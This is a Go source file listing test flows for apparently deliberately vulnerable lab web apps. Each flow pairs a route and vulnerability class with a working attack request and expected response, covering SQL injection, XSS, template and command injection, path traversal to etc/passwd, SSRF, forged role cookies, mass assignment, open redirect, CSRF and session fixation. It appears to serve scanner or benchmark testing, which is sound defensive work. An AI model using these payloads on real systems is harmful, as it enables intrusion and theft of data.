package web

// flowsGo are the flows of Go with SQLite, which the package goflow has.
var flowsGo = []flow{
	{"clinic", "go", pairs, "form /session/new name passphrase", "", "", []step{
		{"/visits/*", "bola", "weak", "anna GET /visits/V-2209 => Harbour"},
		{"/visits/*/note.txt", "bola", "weak", "anna GET /visits/V-2209/note.txt => Harbour"},
		{"/visits/move", "bola", "weak", "anna POST /visits/move ref=V-2209&day=Sunday ; ben GET /visits/V-2209 => Sunday"},
		{"/doctors/*", "bola", "", ""},
	}},
	{"ledger", "go", pairs, "form /bank/login customer passphrase", "", "", []step{
		{"/statement", "bola", "weak", "anna GET /statement?account=4012 => ben holds"},
		{"/transfer", "logic", "weak", "anna POST /transfer to=4012&amount=-50 => Balance: 5"},
		{"/bank/api/profile", "mass", "weak", `anna PATCH /bank/api/profile {"customer":{"is_staff":true}} ; anna GET /bank/api/profile => "is_staff":true`},
	}},
	{"kb", "go", pairs, "form /signin user passphrase", "", "", []step{
		{"/find", "xss", "weak", `- GET /find?words="onfocus=q7 => value=""onfocus=q7`},
		{"/topics", "sql", "weak", `- GET /topics?tag=z"OR"1"="1 => lamp`},
		{"/topics", "error", "weak", `- GET /topics?tag=" => SQL logic error`},
		{"/talk", "xss", "weak", `- POST /talk nick="><b>q7&words=a ; - GET /talk => "><b>q7`},
		{"/layout", "template", "weak", `- POST /layout layout={{printf+"%25d"+1337}} => <blockquote>1337`},
		{"/read", "path", "weak", "- GET /read?doc={up}etc/passwd => root:x:0:0"},
	}},
	{"hr", "go", "weak cookie method parameter sound", "form /in person passphrase", "anna root", "", []step{
		{"/payroll", "bfla", "weak cookie method parameter", `anna [Cookie: profile=eyJyb2xlIjoiY2hpZWYifQ==] GET /payroll?admin=true ; anna [Cookie: profile=eyJyb2xlIjoiY2hpZWYifQ==] POST /payroll?admin=true a=b => 3100`},
		{"/payroll/export", "bfla", "weak cookie method parameter", `anna [Cookie: profile=eyJyb2xlIjoiY2hpZWYifQ==] POST /payroll/export?admin=true a=b => LAB77`},
		{"/handbook", "bfla", "", ""},
	}},
	{"gate", "go", pairs, "form /account/enter login passphrase", "", "", []step{
		{"/account/forgot", "enumeration", "weak", "- POST /account/forgot login=zzz => know nobody"},
		{"/account/enter", "redirect", "weak", "- POST /account/enter?return_to=//q7.example/ login=anna&passphrase=anna-Pass1 => Location: //q7"},
		{"/account/enter", "default", "weak", "- POST /account/enter login=admin&passphrase=admin => ^303"},
		{"/account/enter", "limit", "weak", ""},
		{"/**", "cookie", "weak", ""},
		{"/**", "fixation", "weak", "-1 [Cookie: desk_session=0123456789abcdef] POST /account/enter login=anna&passphrase=anna-Pass1 ; " +
			"-2 [Cookie: desk_session=0123456789abcdef] GET /me => anna@lab"},
		{"/**", "predictable", "weak", "anna GET /me ; - [Cookie: remember_user=cm9vdA==] GET /me => root@lab"},
		{"/me/mail", "csrf", "weak", "anna [Origin: https://q7.example] POST /me/mail mail=q7@lab.example ; anna GET /me => q7@lab"},
	}},
	{"hooks", "go", "weak filter sound", "", "", "", []step{
		{"/hooks/try", "ssrf", "weak filter", "- POST /hooks/try endpoint=http://LOCALHOST:{port}/ => <pre>[^<]*&lt;title"},
		{"/unfurl", "ssrf", "weak filter", "- GET /unfurl?of=http://LOCALHOST:{port}/ => <p>Hooks"},
	}},
	{"drive", "go", "weak sniff sound", "form /drive/login user passphrase", "", "", []step{
		{"/drive", "upload", "weak sniff", ""},
	}},
	{"ward", "go", "weak none sound", "json /v3/sign-in login secret", "", "/swagger.json", []step{
		{"/**", "jwt", "weak none", ""},
		{"/v3/beds/*", "bola", "weak none", "anna GET /v3/beds/47 => south"},
		{"/v3/stock", "sql", "weak none", "anna GET /v3/stock?sort=CASE+WHEN+id=5+THEN+0+ELSE+1+END => ^200 [^\\n]*\n[^\\n]*\n[^\\n]*\n\n.\"sofa"},
		{"/v3/all-patients", "bfla", "weak none", "anna GET /v3/all-patients => ben@lab"},
	}},
	{"tools", "go", pairs, "", "", "", []step{
		{"/host", "command", "weak", "- POST /host host='$((7*191))' => 1337"},
		{"/measure", "command", "weak", "- GET /measure?width=$((7*191)) => 1339"},
		{"/archive", "command", "weak", "- POST /archive title=$(sleep+2) => slow"},
		{"/debug/vars", "exposure", "weak", "- GET /debug/vars => cmdline"},
		{"/debug/pprof/", "exposure", "weak", "- GET /debug/pprof/ => profiles available"},
	}},
	{"cart", "go", pairs, "form /shop/login user passphrase", "", "", []step{
		{"/basket/order", "logic", "weak", `anna POST /basket/order {"product":2,"unit_price":1,"count":1} => "total":1}`},
		{"/basket/voucher", "logic", "weak", "anna POST /basket/voucher voucher=SUMMER5 ; anna POST /basket/voucher voucher=SUMMER5 ; anna GET /basket => by 10"},
	}},
	{"invite", "go", "weak forwarded sound", "form /team/login user passphrase", "", "", []step{
		{"/team/invite", "host", "weak forwarded", "- [X-Forwarded-Host: q7.example] [Host: q7.example] POST /team/invite person=a ; anna GET /team => http://q7\\.example/join"},
	}},
	{"store", "go", pairs, "", "", "", []step{
		{"/", "sql", "weak", "- [Cookie: last_seen=z'OR'1'='1] GET / => <li>desk"},
		{"/shelf/*", "sql", "weak", "- GET /shelf/z'OR'1'='1 => lamp"},
		{"/pages", "sql", "weak", "- GET /pages?from=9+OR+id=5 => sofa"},
		{"/api/query", "sql", "weak", `- POST /api/query {"filter":{"name":"z'OR'1'='1"}} => "found":5`},
	}},
}
